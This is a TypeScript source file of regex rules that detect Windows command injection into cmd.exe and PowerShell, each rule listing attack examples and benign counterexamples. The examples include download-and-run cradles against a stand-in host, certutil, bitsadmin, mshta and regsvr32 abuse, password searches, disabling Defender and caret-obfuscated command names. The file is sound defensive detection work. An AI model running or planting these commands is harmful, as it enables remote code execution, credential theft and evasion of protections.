/**
 * The WINCMD family: Windows command injection, into cmd.exe (`&`, `&&`, `||`, `|` separate
 * commands; `^` and `"` inside a word are dropped, so `c^m^d` is `cmd`) and PowerShell (`;` too;
 * `iex` runs a string; .NET is one `[Type]::` away). As in UNIXCMD, a command name alone is prose;
 * the rules want a separator before it and switch, drive or variable syntax after it.
 */
import type { ValueRule } from "../types.ts";
import { NAME_START, SP0, SP1, WS0 } from "./injection-fragments.ts";

/** What separates commands in cmd.exe and PowerShell. */
const SEPARATOR = "[&|;\\n\\r]";
/** cmd.exe built-ins and Windows programs whose names are also words: caught with arguments only. */
const COMMAND =
  "(?:dir|type|ver|whoami|ipconfig|systeminfo|tasklist|taskkill|net|net1|netstat|netsh|hostname|echo|set|ping|nslookup|certutil|powershell|pwsh|cmd|wmic|reg|sc|copy|del|erase|ren|move|findstr|cscript|wscript|start|schtasks|bitsadmin|mshta|rundll32|regsvr32|icacls|attrib|qwinsta|query|tree|more)(?:\\.exe)?";
/** Programs recognised without arguments: they only print facts about the host. */
const BARE_COMMAND = "(?:whoami|ipconfig|systeminfo|tasklist|ver|netstat|qwinsta)(?:\\.exe)?";
/** What follows a command: a /switch, a -parameter, a drive, a UNC path, a %variable%, a quote. */
const ARGUMENTS = `${SP1}(?:/[a-z?]|-[a-z]|[a-z]:\\\\|\\\\\\\\|%[a-z]|"|')`;
const COMMAND_END = `${SP0}(?:$|[&|;\\n\\r>])`;
/** `net` and its subcommands that list or add users, groups, shares and sessions. */
const NET_COMMAND = `net1?(?:\\.exe)?${SP1}(?:user|localgroup|group|view|share|session|use)(?:${SP1}|$)`;
const WINDOWS_COMMAND = `(?:${COMMAND}${ARGUMENTS}|${BARE_COMMAND}${COMMAND_END}|${NET_COMMAND})`;

/**
 * `word` with `^` or `"` between some of its letters (at least once), which cmd.exe drops:
 * `caretSpelled("cmd")` matches `c^md`, `c^m^d`, `c"m"d` but not `cmd`.
 */
function caretSpelled(word: string): string {
  const escapes = '[\\^"]';
  const loose = (rest: string) => rest.split("").join(`${escapes}*`);
  const withOne = (rest: string): string =>
    rest.length === 1
      ? `${escapes}+${rest}`
      : `(?:${escapes}+${loose(rest)}|${rest[0]}${withOne(rest.slice(1))})`;
  return `${word[0]}${withOne(word.slice(1))}`;
}
const OBFUSCATED = ["cmd", "powershell", "whoami", "certutil", "bitsadmin", "ipconfig", "net", "systeminfo"]
  .map(caretSpelled)
  .join("|");

/** Windows command injection rules. */
export const WINCMD_RULES: readonly ValueRule[] = [
  // ---------------------------------------------------------------------------------------- Basic
  {
    key: "WINCMD_SHELL_SWITCH",
    family: "WINCMD",
    level: "Basic",
    regex:
      `${NAME_START}cmd(?:\\.exe"?${SP0}|${SP1})/[ckr](?:${SP1}|"|$)` +
      `|${NAME_START}(?:powershell|pwsh)(?:\\.exe)?${SP1}(?:[^\\n&|]*${SP1})?-(?:e|ec|enc|encodedcommand|nop|noprofile|noni|noninteractive|w${SP1}hidden|windowstyle${SP1}hidden|ep${SP1}bypass|exec${SP1}bypass|executionpolicy${SP1}bypass)(?:${SP1}|$)`,
    description: "cmd.exe started with /c or /k, or PowerShell with -enc, -nop, -w hidden or -ep bypass",
    examples: [
      "x & cmd /c whoami",
      'cmd.exe /c "type c:\\windows\\win.ini"',
      "powershell -nop -w hidden -c iex(x)",
      "powershell.exe -enc SQBFAFgA",
      "pwsh -ExecutionPolicy Bypass -File x.ps1",
      "cmd.exe/k dir",
    ],
    benign: ["Press Cmd/C to copy", "cmd is the Windows shell", "powershell -version", "Cmd + C"],
  },
  {
    key: "WINCMD_POWERSHELL_DOWNLOAD",
    family: "WINCMD",
    level: "Basic",
    regex:
      `${NAME_START}(?:iex|invoke-expression)${SP0}\\(${SP0}(?:new-object|\\[|\\$|iwr|irm|invoke-|\\(${SP0}new-object)` +
      `|\\|${SP0}(?:iex|invoke-expression)(?:$|[^a-z0-9-])` +
      `|new-object${SP1}(?:-typename${SP1})?(?:system\\.)?net\\.webclient|\\.download(?:string|file|data)(?:async)?${SP0}\\(`,
    description:
      "PowerShell that downloads code or runs a string: IEX (New-Object Net.WebClient).DownloadString(...)",
    examples: [
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
      "iwr http://x.example/a | iex",
      "(new-object system.net.webclient).downloadfile('http://x.example/b','b.exe')",
      "Invoke-Expression($x)",
      "irm x.example/a|iex",
    ],
    benign: ["IEX (Investors Exchange)", "IEX (the exchange) lists", "download the file", "a | iexplore"],
  },
  {
    key: "WINCMD_LOLBIN",
    family: "WINCMD",
    level: "Basic",
    regex:
      `${NAME_START}certutil(?:\\.exe)?${SP1}[^\\n&|]*[-/](?:urlcache|decode|decodehex)(?:${SP1}|$)` +
      `|${NAME_START}bitsadmin(?:\\.exe)?${SP1}[^\\n&|]*/(?:transfer|addfile|setnotifycmdline)` +
      `|${NAME_START}mshta(?:\\.exe)?${SP1}"?(?:https?|vbscript|javascript):` +
      `|${NAME_START}regsvr32(?:\\.exe)?${SP1}[^\\n&|]*/i:${SP0}(?:https?:|\\\\\\\\)` +
      `|${NAME_START}rundll32(?:\\.exe)?${SP1}[^\\n&|]*(?:javascript:|\\\\\\\\)` +
      `|${NAME_START}wmic(?:\\.exe)?${SP1}[^\\n&|]*process${SP1}call${SP1}create`,
    description:
      "Windows programs abused to download or run code (certutil -urlcache, bitsadmin /transfer, mshta http:, regsvr32 /i:http, wmic process call create)",
    examples: [
      "certutil -urlcache -split -f http://x.example/a.exe a.exe",
      "bitsadmin /transfer j http://x.example/a c:\\a.exe",
      "mshta http://x.example/a.hta",
      "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll",
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
      "wmic process call create calc.exe",
    ],
    benign: [
      "certutil is a tool",
      "the bitsadmin docs",
      "rundll32 shell32.dll,Control_RunDLL",
      "mshta files",
    ],
  },
  {
    key: "WINCMD_READ_SYSTEM_FILE",
    family: "WINCMD",
    level: "Basic",
    regex: `${SEPARATOR}${WS0}(?:type|more|dir|copy|findstr${SP1}[^\\n&|]*)${SP1}"?(?:[a-z]:\\\\|%(?:systemroot|windir|userprofile|systemdrive|programdata|appdata)%|\\\\\\\\[a-z0-9])`,
    description: "A separator, then type, more, dir, copy or findstr on a drive, UNC path or system folder",
    examples: [
      "x & type c:\\windows\\win.ini",
      "1|dir C:\\",
      "a && more %SystemRoot%\\system.ini",
      "x|copy \\\\attacker\\share\\a.exe",
      "x & findstr /si password c:\\users\\*.txt",
    ],
    benign: ["Tom & Jerry", "a & type A", "Q&A | dir", "Copy & paste C:"],
  },
  // ------------------------------------------------------------------------------------- Standard
  {
    key: "WINCMD_SEPARATOR_COMMAND",
    family: "WINCMD",
    level: "Standard",
    regex: `${SEPARATOR}${WS0}${WINDOWS_COMMAND}`,
    description: "A command separator, then a Windows command with /switches, drives, %variables% or quotes",
    examples: [
      "x & whoami",
      "x && ipconfig /all",
      "1|net user",
      "x | net localgroup administrators",
      "a & ping -n 5 127.0.0.1",
      "x||echo %USERNAME%",
      "x & systeminfo",
      "a & dir /s",
    ],
    benign: [
      "Tom & Jerry",
      "Rock & Roll | Jazz | Blues",
      "Salt & pepper | type A",
      "Sales & net revenue",
      "Q&A; R&D; AT&T",
      "Copy & paste",
      "black & white; start now",
    ],
  },
  {
    key: "WINCMD_ENV_VARIABLE",
    family: "WINCMD",
    level: "Standard",
    // %username%, %path% and %temp% are also placeholders in message templates: left out
    regex:
      "%(?:comspec|systemroot|windir|programfiles|programdata|userprofile|appdata|localappdata|homedrive|homepath|computername|allusersprofile|systemdrive|processor_architecture)(?::~[-0-9,]+)?%",
    description:
      "A cmd.exe environment variable (%COMSPEC%, %SystemRoot%), or a slice of one (%COMSPEC:~-16,1%)",
    examples: ["%COMSPEC% /c dir", "x&echo %COMPUTERNAME%", "%systemroot%\\system32", "%comspec:~-16,1%"],
    benign: ["20% off", "100%temp", "50% of users", "%name%", "Welcome %username%!"],
  },
  {
    key: "WINCMD_POWERSHELL_EXECUTION",
    family: "WINCMD",
    level: "Standard",
    regex:
      `${NAME_START}(?:invoke-(?:webrequest|restmethod|command|item|wmimethod|cimmethod)|start-(?:process|bitstransfer)|(?:set|add)-mppreference|set-executionpolicy|get-wmiobject|new-object${SP1}-com)(?:${SP1}|\\(|$)` +
      `|\\[(?:system\\.)?(?:diagnostics\\.process|reflection\\.assembly|io\\.file|convert|text\\.encoding|net\\.webclient|runtime\\.interopservices\\.marshal)\\]${SP0}::` +
      `|${NAME_START}(?:powershell|pwsh)(?:\\.exe)?${SP1}-(?:c|command|f|file)(?:${SP1}|$)`,
    description: "PowerShell cmdlets and .NET types that run programs, fetch URLs or load code",
    examples: [
      "Start-Process calc.exe",
      "Invoke-WebRequest -Uri http://x.example/a -OutFile a.exe",
      "[System.Diagnostics.Process]::Start('calc')",
      "[Convert]::FromBase64String($x)",
      "powershell -c whoami",
      "Set-MpPreference -DisableRealtimeMonitoring $true",
    ],
    benign: ["start the process", "invoke a web request", "[convert] to PDF", "powershell is great"],
  },
  {
    key: "WINCMD_CARET_OBFUSCATION",
    family: "WINCMD",
    level: "Standard",
    regex: `${NAME_START}(?:${OBFUSCATED})`,
    description: 'A Windows command name broken up with ^ or " (c^m^d, who"ami), which cmd.exe removes',
    examples: ["c^m^d /c dir", "p^o^w^e^r^s^h^e^l^l -c x", 'who"a"mi', "x&n^et user", "cer^tutil -urlcache"],
    benign: ["cmd", "powershell", "x^2 + y^2", "^_^", "whoami", '"net"'],
  },
  // --------------------------------------------------------------------------------------- Strict
  {
    key: "WINCMD_COMMAND_START",
    family: "WINCMD",
    level: "Strict",
    regex: `^${WS0}${WINDOWS_COMMAND}`,
    description:
      "A value that starts with a Windows command and its arguments (dir /s, net user, type C:\\...)",
    examples: ["dir /s", "net user", "type c:\\boot.ini", "ipconfig /all", "whoami"],
    benign: ["directory", "type here", "net income"],
  },
  {
    key: "WINCMD_CARET_ANY",
    family: "WINCMD",
    level: "Strict",
    regex: "(?:[a-z]\\^+){2,}[a-z]",
    description: "Any word with two or more carets between its letters",
    examples: ["d^i^r", "t^y^pe", "a^b^c"],
    benign: ["x^2", "^_^", "a^b"],
  },
];
